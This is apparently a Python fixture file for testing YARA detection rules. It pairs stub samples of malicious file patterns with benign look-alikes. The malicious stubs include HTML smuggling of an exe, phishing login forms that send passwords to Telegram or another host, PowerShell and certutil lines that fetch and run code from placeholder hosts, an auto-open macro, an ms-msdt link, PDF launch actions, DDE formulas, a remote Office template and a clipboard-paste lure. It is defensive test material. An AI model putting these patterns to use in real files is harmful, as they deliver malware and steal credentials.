"""What the YARA rules are made for, by rule, and honest files beside it. Nothing here does anything."""

from __future__ import annotations

_BASE64 = "A1b2" * 1_000
_LOGIN = '<form><input name="u"><input type="password" name="p"></form>'
_LNK = b"\x4c\x00\x00\x00\x01\x14\x02\x00" + bytes(68)
_ONE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
_STORE = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"

HARMFUL: dict[str, bytes] = {
    "page_unpacks_program": f"""<html><script>var d="TVqQ{_BASE64}";var b=new Blob([atob(d)]);
        var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='x.exe';a.click();</script>""".encode(),
    "page_saves_packed_data": f"""<html><script>var d="{_BASE64}";var b=new Blob([atob(d)]);
        a.href=URL.createObjectURL(b);a.download='x.bin';</script>""".encode(),
    "page_sends_password_to_chat": f"""{_LOGIN}<script>
        fetch("https://api.telegram.org/bot123456789:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA/sendMessage")</script>""".encode(),
    "page_posts_password_elsewhere": _LOGIN.replace(
        "<form>", '<form action="https://kit.example/next.php">'
    ).encode(),
    "page_knows_its_victim": f"""{_LOGIN}<script>var e=location.hash.substr(1);
        img.src="https://logo.clearbit.com/"+e.split("@")[1]</script>""".encode(),
    "page_written_by_decoder": f"<script>document.write(unescape('{'%3c' * 400}'))</script>".encode(),
    "page_pastes_command": b"""<script>navigator.clipboard.writeText("powershell -w h -c iex")</script>
        Press Win + R, then Ctrl + V""",
    "drawing_with_script": b'<svg xmlns="http://www.w3.org/2000/svg"><script>window.location=atob("aHR0")</script></svg>',
    "chinese_mailbox_login_page": f"<html>您的邮箱密码已过期，请重新登录{_LOGIN}</html>".encode(),
    "chinese_card_form": (
        "<form>领取补贴：身份证号<input>银行卡号<input>卡内余额<input>手机号<input></form>"
    ).encode(),
    "script_fetches_and_runs": b"""var s=new ActiveXObject("WScript.Shell");var x=new ActiveXObject("MSXML2.XMLHTTP");
        var f=new ActiveXObject("ADODB.Stream");f.SaveToFile("a");s.Run("a");""",
    "script_runs_command": b'Set s = CreateObject("WScript.Shell")\ns.Run "cmd /c calc"',
    "powershell_fetches_and_runs": b"powershell -w hidden -c iex (New-Object Net.WebClient).DownloadString('http://a.example')",
    "powershell_encoded_command": b"powershell -nop -enc " + b"QUJD" * 30,
    "batch_fetches_file": b"@echo off\r\ncertutil -urlcache -f http://a.example/x.exe x.exe",
    "html_application_with_shell": b'<hta:application id=x><script language="vbscript">CreateObject("WScript.Shell")</script>',
    "macro_runs_on_opening": b'Sub AutoOpen()\n Shell "powershell -c calc"\nEnd Sub',
    "diagnostic_tool_link": b"ms-msdt:/id PCWDiagnostic /skip force",
    "shortcut_runs_command": _LNK + "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe".encode("utf-16-le"),
    "shortcut_to_share": b"[InternetShortcut]\r\nURL=file://203.0.113.5/share/x.exe\r\n",
    "pdf_starts_program": b"%PDF-1.4\n<</Type/Action/S/Launch/Win<</F (cmd.exe)/P(/c calc)>>>>",
    "pdf_runs_script": b"%PDF-1.4\n<</OpenAction<</S/JavaScript/JS(this.exportDataObject({cName:'x'}))>>>>",
    "onenote_holds_script": _ONE + bytes(40) + _STORE + bytes(20) + b"@echo off\r\npowershell calc",
    "rtf_equation_object": b"{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata 0105000002000000"
    b"0b0000004571756174696f6e2e3300}}}",
    "document_starts_command_by_dde": b"name,amount\r\n=cmd|'/c calc'!A1,2\r\n",
    "package_with_program": _OLE + "\x01Ole10Native".encode("utf-16-le") + b"C:\\x\\invoice.exe\0",
    "template_from_elsewhere": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://a.example/t.dotm" TargetMode="External"/></Relationships>',
    "eicar_test_file": b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
}  # fmt: skip

HARMLESS: dict[str, bytes] = {
    "a page with a login form of its own": _LOGIN.replace("<form>", '<form action="/login">').encode(),
    "a page that saves a picture": b"<script>a.href=URL.createObjectURL(new Blob([x]));a.download='x.png'</script>",
    "a drawing": b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>',
    "a page that holds a drawing": b"<html><svg></svg><script>window.location='/'</script></html>",
    "a text about PowerShell": b"Use Invoke-WebRequest to fetch https://a.example/ and Start-Process to run it.",
    "a build script": b"#!/bin/sh\ncurl -fsSL https://a.example/install.sh -o install.sh\nmake",
    "a Chinese notice about mailboxes": "您的邮箱密码将于三个月后过期，请在公司内网修改。".encode(),
    "a subsidy notice": "补贴将发放至您的银行卡，请核对身份证号。".encode(),
    "an internet shortcut": b"[InternetShortcut]\r\nURL=https://www.a.example/\r\n",
    "a PDF with a link": b"%PDF-1.4\n<</S/URI/URI(https://a.example/)>>",
    "a table": b"name,amount\r\n=SUM(A1:A3),2\r\n-5,+3\r\n",
    "a document's relations": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
    b'Target="https://a.example/" TargetMode="External"/></Relationships>',
}  # fmt: skip
